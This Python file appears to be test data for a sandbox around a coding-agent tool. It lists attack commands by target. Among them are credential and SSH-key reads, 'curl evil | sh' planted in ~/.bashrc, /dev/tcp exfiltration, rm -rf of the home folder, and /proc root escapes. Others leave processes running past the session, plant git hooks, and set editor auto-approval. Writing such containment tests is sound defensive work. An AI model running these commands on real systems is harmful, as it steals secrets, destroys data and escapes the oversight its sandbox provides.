"""Commands that try to get out, by threat. Each does what it says where there is no sandbox.

`{root}`, `{outside}`, `{home}` are folders, `{tcp}`, `{udp}` ports of a listener on the host, `{unix}`,
`{lent}` and `{abstract}` its sockets, `{victim}` a process outside, `{marker}` what a survivor is known by. A
command that has got something it should not have says so: IN.
"""

from __future__ import annotations

import platform
import shlex
from dataclasses import dataclass
from typing import Literal

IN = "GOT-IN"
"""Printed by an attack that has worked and leaves no other trace."""
Bare = Literal["anyone", "root", "never"]


@dataclass(frozen=True, slots=True)
class Attack:
    """One command line, and who it works for where there is no sandbox; "never": not safe to try."""

    name: str
    line: str
    bare: Bare = "anyone"


def _python(code: str) -> str:
    return f"python3 -c {shlex.quote(code)}"


def _got(test: str) -> str:
    return f"{test} && echo {IN}"


def _call(number: int, *arguments: str) -> str:
    """A system call by its number; it has worked when it gives no error."""
    code = (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "buffer = ctypes.create_string_buffer(4096)\n"
        f"found = libc.syscall({', '.join([str(number), *arguments])})\n"
        f"print('{IN}' if found >= 0 else os.strerror(ctypes.get_errno()))"
    )
    return _python(code)


def _connect(family: str, kind: str, address: str, send: str = "b'x'") -> str:
    return _python(
        f"import socket\ns = socket.socket(socket.{family}, socket.{kind})\ns.settimeout(2)\n"
        f"s.connect({address})\ns.send({send})"
    )


WRITING = (
    Attack("outside", "echo x > {outside}/new"),
    Attack("over an existing file", "echo x > {outside}/file.txt"),
    Attack("up from the workspace", "echo x > ../../outside/new"),
    Attack("shell settings of the user", "echo 'curl evil | sh' >> ~/.bashrc"),
    Attack("ssh keys", "echo key >> ~/.ssh/authorized_keys"),
    Attack("settings of this program", "echo '[agent]' > ~/.config/qwen-lsp/config.toml"),
    Attack("through a link to a folder", "ln -s {outside} link && echo x > link/new"),
    Attack("through a link to a file", "ln -s ~/.bashrc link && echo x >> link"),
    Attack("through a chain of links", "ln -s .. a && ln -s a/../../outside b && echo x > b/new"),
    Attack("through a hard link", "ln {outside}/file.txt link && echo x > link"),
    Attack("through the current folder of a process", "echo x > /proc/self/cwd/../../outside/new"),
    Attack("through the root of a process", "echo x > /proc/self/root{outside}/new"),
    Attack("through the root of a process outside", "echo x > /proc/{victim}/root{outside}/new"),
    Attack("through the root of the first process", "echo x > /proc/1/root{outside}/new", "never"),
    Attack("a file moved in", "mv {outside}/file.txt moved"),
    Attack("a file moved out", "mv main.py {outside}/file.txt"),
    Attack("everything deleted", "rm -rf {outside} {home}"),
    Attack("the home deleted", "rm -rf ~"),
    Attack("rights", "chmod -R 777 {outside}"),
    Attack("from an archive",
           "tar -cPf a.tar main.py --transform s,main.py,{outside}/new, && tar -xPf a.tar"),
    Attack("by a patch", "printf -- '--- /dev/null\\n+++ {outside}/p\\n@@ -0,0 +1 @@\\n+x\\n' > p && "
           "git apply --unsafe-paths --directory=/ p"),
    Attack("lent: a new file", "echo x > node_modules/new"),
    Attack("lent: over a file", "echo x > node_modules/left/index.js"),
    Attack("lent: deleted", "rm -rf node_modules/left"),
    Attack("lent: through a hard link", "ln node_modules/left/index.js link && echo x > link"),
    Attack("lent: replaced", "mv node_modules n2 && mkdir -p node_modules/left"),
    Attack("lent: rights", "chmod 777 node_modules/left/index.js"),
    Attack("system settings", "echo x > /etc/qwen-lsp-test-{marker}", "never"),
    Attack("system programs", "echo x > /usr/local/bin/qwen-lsp-test-{marker}", "never"),
    Attack("a new folder of the root", "mkdir /qwen-lsp-test-{marker}", "never"),
)  # fmt: skip

READING = (
    Attack("ssh key", "cat ~/.ssh/id_ed25519"),
    Attack("cloud credentials", "cat {home}/.aws/credentials"),
    Attack("registry credentials", "cat ~/.cargo/credentials.toml"),
    Attack("settings of this program", "cat ~/.config/qwen-lsp/config.toml"),
    Attack("another folder", "cat {outside}/secret.txt"),
    Attack("up from the workspace", "cat ../../outside/secret.txt"),
    Attack("all of the home", "grep -rs planted ~"),
    Attack("through a link", "ln -s ~/.ssh link && cat link/id_ed25519"),
    Attack("through the root of a process", "cat /proc/self/root{outside}/secret.txt"),
    Attack("through the root of a process outside", "cat /proc/{victim}/root{outside}/secret.txt"),
    Attack("through the root of the first process", "cat /proc/1/root{outside}/secret.txt", "never"),
    Attack("by a copy", "cp -r {outside} copied && cat copied/secret.txt"),
    Attack("the environment", "env"),
    Attack("the environment of all processes", "cat /proc/[0-9]*/environ"),
    Attack("the environment of a process outside", "cat /proc/{victim}/environ"),
    Attack("what lies beside", _got("ls {outside}")),
    Attack("password hashes", _got("head -c 1 /etc/shadow | grep -q ."), "root"),
    Attack("memory of the kernel", _got("head -c 1 /proc/kcore | grep -q ."), "never"),
    Attack("the kernel's log", _got("dmesg"), "root"),
    Attack("what runs outside", _got("ls -d /proc/{victim}")),
    Attack("sockets of services", _got("ls -d /run/* /var/run/*")),
    Attack("devices", _got("ls -d /dev/kmsg /dev/vd* /dev/sd* /dev/nvme* 2>/dev/null | grep -q ."), "root"),
    Attack("descriptors left open", _python(
        "import os\nfor fd in range(3, 256):\n  try: os.write(fd, b'x')\n  except OSError: continue\n"
        f"  print('{IN}')")),
)  # fmt: skip

NETWORK = (
    Attack("TCP to this machine", _connect("AF_INET", "SOCK_STREAM", "('127.0.0.1', {tcp})")),
    Attack("TCP by the shell", "bash -c 'echo secret > /dev/tcp/127.0.0.1/{tcp}'"),
    Attack("TCP to its own address", _connect("AF_INET", "SOCK_STREAM", "('{address}', {tcp})")),
    Attack("UDP to this machine", _connect("AF_INET", "SOCK_DGRAM", "('127.0.0.1', {udp})")),
    Attack("UDP to its own address", _connect("AF_INET", "SOCK_DGRAM", "('{address}', {udp})")),
    Attack("a question to a name server", _connect(
        "AF_INET", "SOCK_DGRAM", "('127.0.0.1', {udp})",
        r"b'\x12\x34\1\0\0\1\0\0\0\0\0\0\6secret\7example\3org\0\0\1\0\1'")),
    Attack("a socket in the file system", _connect("AF_UNIX", "SOCK_STREAM", "'{unix}'")),
    Attack("a socket in a folder that is lent", _connect("AF_UNIX", "SOCK_STREAM", "'{lent}'")),
    Attack("a socket through the root", _connect("AF_UNIX", "SOCK_STREAM", "'/proc/{victim}/root{unix}'")),
    Attack("an abstract socket", _connect("AF_UNIX", "SOCK_STREAM", r"'\0{abstract}'")),
    Attack("raw packets", _python(f"import socket\nsocket.socket(2, 3, 1)\nprint('{IN}')"), "root"),
    Attack("packets of a device", _python(f"import socket\nsocket.socket(17, 3, 0)\nprint('{IN}')"), "root"),
    Attack("the machine below", _python(f"import socket\nsocket.socket(40, 1, 0)\nprint('{IN}')"), "never"),
    Attack("ciphers of the kernel", _python(f"import socket\nsocket.socket(38, 5)\nprint('{IN}')"), "never"),
)  # fmt: skip

PROCESSES = (
    Attack("a process ended", "kill -9 {victim}"),
    Attack("a process stopped by another's right", _python(
        f"import ctypes\nprint('{IN}' if ctypes.CDLL(None).ptrace(16, {{victim}}, 0, 0) == 0 else '')")),
    Attack("its memory", _got("head -c 0 /proc/{victim}/mem")),
    Attack("its files", _got("ls /proc/{victim}/fd")),
    Attack("left behind: in the background", "sleep {marker} > /dev/null 2>&1 &"),
    Attack("left behind: in a session of its own", "setsid sleep {marker} > /dev/null 2>&1 &"),
    Attack("left behind: without hang-up", "nohup setsid sleep {marker} > /dev/null 2>&1 &"),
    Attack("left behind: forked twice", _python(
        "import os\nif os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n    os.closerange(0, 3)\n"
        "    os.execvp('sleep', ['sleep', '{marker}'])")),
    Attack("another user", _got("su nobody -s /bin/sh -c 'exit 0'"), "root"),
    Attack("text for the terminal", _python(
        "import fcntl, os, pty, termios\nmain, side = pty.openpty()\nos.setsid()\n"
        "fcntl.ioctl(side, termios.TIOCSCTTY, 0)\n"
        f"fcntl.ioctl(side, termios.TIOCSTI, b'x')\nprint('{IN}')"), "root"),
)  # fmt: skip

_X86 = platform.machine() == "x86_64"
_PART = "ctypes.byref((ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8))"
KERNEL = (
    Attack("a user namespace", _got("unshare -U true")),
    Attack("a mount namespace", _got("unshare -m true"), "root"),
    Attack("a user namespace by clone", _call(
        56 if _X86 else 220, "0x10000000 | 17", "0", "0", "0", "0")),
    Attack("a mount", _got("mount -t tmpfs none {outside} && umount {outside}"), "root"),
    Attack("a mount made writable", _got("mount -o remount,rw,bind /usr"), "never"),
    Attack("a mount taken away", _got("umount .git || umount node_modules"), "never"),
    Attack("another root", _got("chroot / true"), "root"),
    Attack("io_uring", _call(425, "4", "buffer")),
    Attack("bpf", _call(321 if _X86 else 280, "0", "buffer", "128"), "never"),
    Attack("perf events", _call(298 if _X86 else 241, "buffer", "0", "-1", "-1", "0"), "never"),
    Attack("page faults", _call(323 if _X86 else 282, "0"), "root"),
    Attack("keys of the user", _call(250 if _X86 else 219, "0", "-3", "1")),
    Attack("a new key", _call(248 if _X86 else 217, "b'user'", "b'q'", "b'x'", "1", "-2"), "never"),
    Attack("a file by its handle", _call(304 if _X86 else 265, "-100", "buffer", "0"), "never"),
    Attack("the namespace of another", _call(
        308 if _X86 else 268, "os.open('/proc/self/ns/net', 0)", "0"), "root"),
    Attack("memory of another", _call(310 if _X86 else 270, "os.getpid()", _PART, "1", _PART, "1", "0")),
    Attack("secret memory", _call(447, "0"), "never"),
    Attack("a module", _call(175 if _X86 else 105, "buffer", "0", "b''"), "never"),
    Attack("another kernel", _call(246 if _X86 else 104, "0", "0", "buffer", "0"), "never"),
    Attack("the clock", _call(227 if _X86 else 112, "0", "buffer"), "never"),
    Attack("a crash handler", _got(": >> /proc/sys/kernel/core_pattern"), "root"),
    Attack("a system request", _got(": >> /proc/sysrq-trigger"), "never"),
    Attack("a setting of the kernel", _got(": >> /proc/sys/vm/overcommit_memory"), "root"),
    Attack("the name of the machine", _got("hostname $(hostname)"), "root"),
    Attack("a device of one's own", _got("mknod disk b 7 0"), "root"),
    Attack("rights of a file", _got("setcap cap_net_raw+ep main.py"), "root"),
)  # fmt: skip

_HOOK = "echo 'touch {outside}/hooked' >"
_REPOSITORY = "git init -q r && cd r && echo 1 > f"
PROTECTED = (
    Attack("a hook written", f"{_HOOK} .git/hooks/pre-commit"),
    Attack("a hook moved into place", f"{_HOOK} h && mv h .git/hooks/pre-commit"),
    Attack("a hook by a link", "ln -s ../../main.py .git/hooks/pre-commit"),
    Attack("the repository moved away", f"mv .git .git2; mkdir -p .git/hooks; {_HOOK} .git/hooks/pre-commit"),
    Attack("its hooks moved away", f"mv .git/hooks .git/h2; mkdir .git/hooks; {_HOOK} .git/hooks/pre-commit"),
    Attack("the repository deleted", "rm -rf .git; git init -q"),
    Attack("its settings", "git config core.fsmonitor 'touch {outside}/hooked'"),
    Attack("another case", f"mkdir -p .GIT/hooks && {_HOOK} .GIT/hooks/pre-commit"),
    Attack("a dot at the end", f"mkdir -p .git./hooks && {_HOOK} .git./hooks/pre-commit"),
    Attack("editor settings", "echo '{{\"chat.tools.autoApprove\": true}}' > .vscode/settings.json"),
    Attack("editor settings by a rename", "echo x > new && mv -f new .vscode/settings.json"),
    Attack("editor settings by a new folder",
           "mv .vscode v2 && mkdir .vscode && echo x > .vscode/settings.json"),
    Attack("editor settings by a link", "rm -r .vscode && ln -s pkg .vscode"),
    Attack("editor settings by a hard link", "ln .vscode/settings.json s && echo x > s"),
    Attack("editor settings in another case", "mkdir -p .VSCode && echo x > .VSCode/settings.json"),
    Attack("a workflow", "echo 'on: [push]' > .github/workflows/ci.yml"),
    Attack("a new workflow", "echo 'on: [push]' > .github/workflows/new.yml"),
    Attack("workflows moved away", "mv .github/workflows w && mkdir .github/workflows"),
    Attack("their folder moved away",
           "mv .github g && mkdir -p .github/workflows && echo x > .github/workflows/ci.yml"),
    Attack("package settings", "echo 'script-shell=evil' > .npmrc"),
    Attack("package settings by a rename", "echo x > n && mv -f n .npmrc"),
    Attack("a server for an editor", "mkdir -p .cursor && echo x > .cursor/mcp.json"),
    Attack("hooks of another agent", "mkdir -p .claude && echo x > .claude/settings.json"),
    Attack("our own settings", "mkdir -p .qwen-lsp && echo x > .qwen-lsp/config.toml"),
    Attack("git: a program that watches", f"{_REPOSITORY}; git config core.fsmonitor "
           "'touch {outside}/hooked; false'; git status"),
    Attack("git: a filter", f"{_REPOSITORY}; echo '* filter=x' > .gitattributes; "
           "git config filter.x.clean 'touch {outside}/hooked'; git add f"),
    Attack("git: a hook", f"{_REPOSITORY}; {_HOOK} .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
           "git add f; git -c user.name=a -c user.email=a@b commit -qm x"),
)  # fmt: skip

TABLE = {
    "writing": WRITING, "reading": READING, "network": NETWORK, "processes": PROCESSES,
    "kernel": KERNEL, "protected": PROTECTED,
}  # fmt: skip
"""All attacks, by what they are after."""
